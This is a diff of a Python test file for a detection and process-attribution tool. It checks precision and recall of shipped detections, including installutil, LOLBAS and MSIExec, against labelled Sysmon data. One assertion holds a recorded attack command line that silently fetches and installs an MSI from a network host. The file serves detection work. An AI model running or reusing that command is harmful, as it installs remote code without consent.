@@ -6,6 +6,7 @@ import contextlib
 import importlib.util
 import io
 import json
+import re
 from datetime import datetime, timezone
 from pathlib import Path
 from typing import Any
@@ -15,19 +16,21 @@ import yaml
 from pyspark.sql import DataFrame, SparkSession
 from pyspark.sql import functions as F
 
+from procnet.attribution.lifetimes import host_key
 from procnet.cli.out import plain
-from procnet.detections.catalog import load_detections, select
+from procnet.detections.catalog import load_detections
+from procnet.detections.detection import Detection
+from procnet.findings.related import with_clients
 from procnet.runs.find import find
 from procnet.settings import Settings, default_conf_dir
 from procnet.sources.load import load_source
 from procnet.sources.normalize import Normalized, normalize
 from procnet.sources.readers import read_raw
-from procnet.types import Window
+from procnet.types import HostMatch, Window
 
 SHARED = Path(__file__).resolve().parents[3] / "shared"
 DATA, TRUTH = SHARED / "data", SHARED / "truth"
 NOW = datetime(2026, 11, 1, tzinfo=timezone.utc)
-MSIEXEC = "b0fd38c7-f71a-43a2-870e-f3ca06bcdd99"
 EVER = Window(datetime(2015, 1, 1, tzinfo=timezone.utc), datetime(2027, 1, 1, tzinfo=timezone.utc))
 WEB = {
     "id": "11111111-1111-4111-8111-111111111111", "name": "web", "version": 1,
@@ -91,16 +94,24 @@ def _score(rows: list[dict[str, Any]], tmp_path: Path) -> str:
     return out.getvalue()
 
 
-def _found(events: tuple[DataFrame, DataFrame], detection: dict[str, Any], tmp_path: Path) -> list[dict[str, Any]]:
-    file = tmp_path / f"{detection['name']}.yml"
+@pytest.fixture(scope="module")
+def found(events: tuple[DataFrame, DataFrame], tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, Any]]:
+    """Findings of `any` and of all shipped detections, in one pass."""
+    detections = [*load_detections(default_conf_dir() / "detections"), _written(ANY, tmp_path_factory.mktemp("any"))]
+    findings = find(*events, detections, EVER, Settings()).findings
+    assert findings is not None
+    told = with_clients(findings, events[0], host_key=lambda host: host_key(host, HostMatch.SHORT))
+    return [r.asDict(recursive=True) for r in told.collect()]
+
+
+def _written(detection: dict[str, Any], folder: Path) -> Detection:
+    file = folder / f"{detection['name']}.yml"
     file.write_text(yaml.safe_dump(detection))
-    found = find(*events, load_detections([file]), EVER, Settings()).findings
-    assert found is not None
-    return [r.asDict(recursive=True) for r in found.collect()]
+    return load_detections([file])[0]
 
 
-def test_every_process_named_is_right_and_none_is_missed(events: tuple[DataFrame, DataFrame], tmp_path: Path) -> None:
-    text = _score(_found(events, ANY, tmp_path), tmp_path)
+def test_every_process_named_is_right_and_none_is_missed(found: list[dict[str, Any]], tmp_path: Path) -> None:
+    text = _score([r for r in found if r["detection_id"] == ANY["id"]], tmp_path)
     # Of 1,148 processes named none is another than the true one. Of 40 the truth tells no start: Sysmon wrote those
     # connections 3.3 to 4.9 s after their process's end, most without naming it, and `end_grace` does.
     assert "{'connection only': 14463, 'right': 1108, 'start is not in the data': 40}" in text, text
@@ -108,8 +119,9 @@ def test_every_process_named_is_right_and_none_is_missed(events: tuple[DataFrame
     assert "likely ones 447/447" in text, text
 
 
-def test_on_web_ports_too(events: tuple[DataFrame, DataFrame], tmp_path: Path) -> None:
-    text = _score(_found(events, WEB, tmp_path), tmp_path)
+def test_on_web_ports_too(found: list[dict[str, Any]], tmp_path: Path) -> None:
+    web = [r for r in found if r["detection_id"] == ANY["id"] and r["dest_port"] in (80, 443)]
+    text = _score([{**r, "detection_id": WEB["id"]} for r in web], tmp_path)
     assert "precision 1.0000 (403/403)" in text, text
     assert "recall 1.0000 (193/193 connections" in text, text
     assert "likely ones 149/149" in text, text
@@ -117,18 +129,32 @@ def test_on_web_ports_too(events: tuple[DataFrame, DataFrame], tmp_path: Path) -
 
 def test_without_guids_what_is_named_is_right_still(events: tuple[DataFrame, DataFrame], tmp_path: Path) -> None:
     bare = [f.withColumn("process_guid", F.lit(None).cast("string")) for f in events]
-    text = _score(_found((bare[0], bare[1]), WEB, tmp_path), tmp_path)
+    found = find(bare[0], bare[1], [_written(WEB, tmp_path)], EVER, Settings()).findings
+    assert found is not None
+    text = _score([r.asDict(recursive=True) for r in found.collect()], tmp_path)
     # The one of the 394: Message CSV has seconds alone, and two processes shared an id within one.
     assert "precision 0.9975 (393/394)" in text, text
     assert "(185/193 connections" in text, text  # the other eight have no process id
 
 
-def test_the_installer_service_and_not_the_reused_id(events: tuple[DataFrame, DataFrame]) -> None:
-    chosen = select(load_detections(default_conf_dir() / "detections"), ["msiexec_any_port", MSIEXEC])
-    day = Window(datetime(2018, 12, 4, tzinfo=timezone.utc), datetime(2018, 12, 5, tzinfo=timezone.utc))
-    found = find(*events, chosen, day, Settings()).findings
-    assert found is not None
-    told = [
-        (r["process_id"], r["dest_ip"], r["dest_port"], r["attribution"]) for r in found.orderBy("event_time").collect()
-    ]
-    assert told == [(1952, "192.168.162.135", 8000, "guid")] * 2
+def test_the_family_finds_what_is_there(found: list[dict[str, Any]], tmp_path: Path) -> None:
+    """All shipped detections in one pass: every sure row of each, and no process that the truth contradicts."""
+    rows = [r for r in found if r["detection_id"] != ANY["id"]]
+    text = _score(rows, tmp_path)
+    for name, sure, likely in (
+        ("installutil", "2/2", "2/2"), ("installutil_uninstall", "2/2", "2/2"), ("lolbas_public", "5/5", "2/2"),
+        ("kerberos_not_lsass", "1/1", "2/2"),
+    ):  # fmt: skip
+        (of_it,) = re.findall(rf"== {name}: .*\n.*", text)
+        assert f"recall 1.0000 ({sure} connections" in of_it, text
+        assert f"likely ones {likely}" in of_it, text
+        assert "another process" not in of_it, text
+    # Neither the shipped detection (port 8000 is not its own) nor the reused id 7764 has any.
+    installer = sorted((r for r in rows if "MSIExec" in r["detection_name"]), key=lambda r: r["event_time"])
+    assert [(r["process_id"], r["dest_ip"], r["dest_port"], r["attribution"]) for r in installer] == [
+        (1952, "192.168.162.135", 8000, "guid")
+    ] * 2
+    for finding in installer:
+        client = finding["related"][0]
+        assert (client["process_id"], client["role"]) == (3880, "client")
+        assert client["process"] == "msiexec.exe /quiet /i http://192.168.162.135:8000/bin/Installer.msi"
